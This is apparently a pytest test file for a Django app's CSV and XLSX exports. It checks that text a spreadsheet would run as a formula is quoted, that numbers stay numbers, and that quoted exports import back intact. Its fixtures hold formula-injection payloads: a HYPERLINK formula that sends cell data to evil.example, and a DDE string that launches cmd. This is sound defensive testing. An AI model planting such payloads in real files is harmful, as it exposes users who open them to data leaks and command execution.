"""No live formulas in what Renewal writes: every CSV and XLSX (the KPI and measurement exports, the
import template, the portfolio) quotes text a spreadsheet would run, numbers stay numbers, and the
measurement export still imports back as it was."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from metrics.models import Measurement, MeasurementImport
from renewal.exports import cell, neutralise, unneutralise

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SOURCE = "=1+1"
NOTE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(initiative, kpi, measurements):
    """A KPI and its measurements carrying the strings of the security test."""
    kpi.name = NAME
    kpi.baseline_source = SOURCE
    kpi.description = "@SUM(1+1)*cmd|' /C calc'!A0"
    kpi.data_source = "+1+2"
    kpi.unit = "-"
    kpi.baseline_value = Decimal("-7.5")
    kpi.save()
    measurements[0].note = NOTE
    measurements[0].save()
    measurements[1].note = "\t=1+1"
    measurements[1].save()
    initiative.title = "-2+3"
    initiative.save()
    return kpi


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def sheet_of(response):
    return load_workbook(io.BytesIO(response.content)).active


def assert_no_formulas(sheet):
    for row in sheet.iter_rows():
        for c in row:
            assert c.data_type != "f", f"{c.coordinate} is a formula: {c.value!r}"
            if isinstance(c.value, str):
                assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), c.coordinate


def export_url(initiative, what, fmt):
    return reverse("metrics:initiative_export", args=[initiative.pk, what, fmt])


# The one function every cell goes through ---------------------------------------------------------


@pytest.mark.parametrize("text", [NAME, SOURCE, NOTE, "+1", "-1", "@A1", "\tx", "\rx", "'=1"])
def test_text_a_spreadsheet_would_run_is_quoted_and_reads_back_as_it_was(text):
    assert neutralise(text).startswith("'")
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Permit processing time", "'quoted", "", "12.5", "a=b"])
def test_harmless_text_is_left_as_it_is(text):
    assert neutralise(text) == text
    assert unneutralise(text) == text


def test_numbers_stay_numbers_negative_ones_too():
    assert cell(Decimal("-12.50"), "xlsx") == -12.5
    assert cell(Decimal("-12.50"), "csv", ",") == "-12,5"
    assert cell(-3, "csv") == -3
    assert cell(-0.5, "xlsx") == -0.5
    assert cell(None, "xlsx") is None


def test_characters_an_xlsx_cannot_hold_are_left_out_instead_of_failing():
    assert cell("bell\x07 and\x1b escape", "xlsx") == "bell and escape"


# Each export -------------------------------------------------------------------------------------


def test_the_kpi_csv_has_no_formulas(viewer_client, initiative, hostile):
    header, row = csv_rows(viewer_client.get(export_url(initiative, "kpis", "csv")))[:2]
    by_column = dict(zip(header, row, strict=True))

    assert by_column["Name"] == "'" + NAME
    assert by_column["Baseline source"] == "'" + SOURCE
    assert by_column["Description"].startswith("'@")
    assert by_column["Data source"] == "'+1+2"
    assert by_column["Unit"] == "'-"
    assert by_column["Baseline value"] == "-7.5", "a negative number is not quoted"


def test_the_kpi_xlsx_has_no_formulas_and_numbers_stay_numbers(viewer_client, initiative, hostile):
    sheet = sheet_of(viewer_client.get(export_url(initiative, "kpis", "xlsx")))
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))

    assert_no_formulas(sheet)
    assert row["Name"].value == "'" + NAME
    assert row["Baseline source"].value == "'" + SOURCE
    assert row["Baseline value"].data_type == "n" and row["Baseline value"].value == -7.5
    assert row["Target value"].data_type == "n" and row["Target value"].value == 60
    assert row["KPI id"].data_type == "n"


def test_the_measurement_csv_has_no_formulas(viewer_client, initiative, hostile, measurements):
    Measurement.objects.filter(pk=measurements[2].pk).update(value=Decimal("-12.5"))
    rows = csv_rows(viewer_client.get(export_url(initiative, "measurements", "csv")))

    assert rows[0][:5] == ["kpi", "kpi_name", "date", "value", "note"]
    assert [r[1] for r in rows[1:]] == ["'" + NAME] * 3
    assert [r[4] for r in rows[1:]] == ["'" + NOTE, "'\t=1+1", ""]
    assert rows[3][3] == "-12.5"


def test_the_measurement_xlsx_has_no_formulas(viewer_client, initiative, hostile, measurements):
    Measurement.objects.filter(pk=measurements[2].pk).update(value=Decimal("-12.5"))
    sheet = sheet_of(viewer_client.get(export_url(initiative, "measurements", "xlsx")))

    assert_no_formulas(sheet)
    assert sheet["B2"].value == "'" + NAME
    assert sheet["E2"].value == "'" + NOTE
    assert sheet["D2"].data_type == "n" and sheet["D2"].value == 112
    assert sheet["D4"].data_type == "n" and sheet["D4"].value == -12.5


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_import_template_has_no_formulas(member_client, initiative, hostile, fmt):
    response = member_client.get(reverse("metrics:import_template", args=[initiative.pk, fmt]))
    if fmt == "csv":
        assert csv_rows(response)[1][:2] == [str(hostile.pk), "'" + NAME]
    else:
        sheet = sheet_of(response)
        assert_no_formulas(sheet)
        assert sheet["A2"].data_type == "n"
        assert sheet["B2"].value == "'" + NAME


def test_the_portfolio_csv_has_no_formulas(leader_client, initiative, hostile):
    response = leader_client.get(reverse("initiatives:portfolio_export", args=["csv"]))
    rows = csv_rows(response)

    assert [r[0] for r in rows[1:]] == ["'-2+3"]


def test_the_portfolio_xlsx_has_no_formulas(leader_client, initiative, hostile):
    response = leader_client.get(reverse("initiatives:portfolio_export", args=["xlsx"]))
    sheet = sheet_of(response)

    assert_no_formulas(sheet)
    assert sheet["A2"].value == "'-2+3"
    assert all(c.data_type == "n" for c in sheet[2][5:10]), "the euro and FTE figures"


def test_a_finnish_csv_keeps_negative_numbers_numbers(member, member_client, initiative, hostile):
    member.language = "fi"
    member.save()
    row = csv_rows(member_client.get(export_url(initiative, "kpis", "csv")))[1]

    assert row[1] == "'" + NAME
    assert row[6] == "-7,5"


# Round trip ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_quoted_export_imports_back_as_it_was(
    member_client, initiative, hostile, measurements, fmt
):
    exported = member_client.get(export_url(initiative, "measurements", fmt)).content
    Measurement.objects.all().delete()

    upload = SimpleUploadedFile(f"measurements.{fmt}", exported)
    member_client.post(reverse("metrics:import_upload", args=[initiative.pk]), {"file": upload})
    imp = MeasurementImport.objects.get()
    assert imp.rejected_rows == 0, imp.rows
    member_client.post(reverse("metrics:import_confirm", args=[imp.pk]))

    notes = dict(Measurement.objects.values_list("date", "note"))
    assert notes == {
        measurements[0].date: NOTE,
        measurements[1].date: "\t=1+1",
        measurements[2].date: "",
    }


def test_an_import_by_kpi_name_finds_a_quoted_name(member_client, initiative, hostile):
    day = hostile.baseline_date.isoformat()
    content = f'kpi_name,date,value\n"\'{NAME.replace('"', '""')}",{day},100\n'

    upload = SimpleUploadedFile("by-name.csv", content.encode())
    member_client.post(reverse("metrics:import_upload", args=[initiative.pk]), {"file": upload})

    imp = MeasurementImport.objects.get()
    assert imp.rows[0]["kpi_id"] == hostile.pk, imp.rows
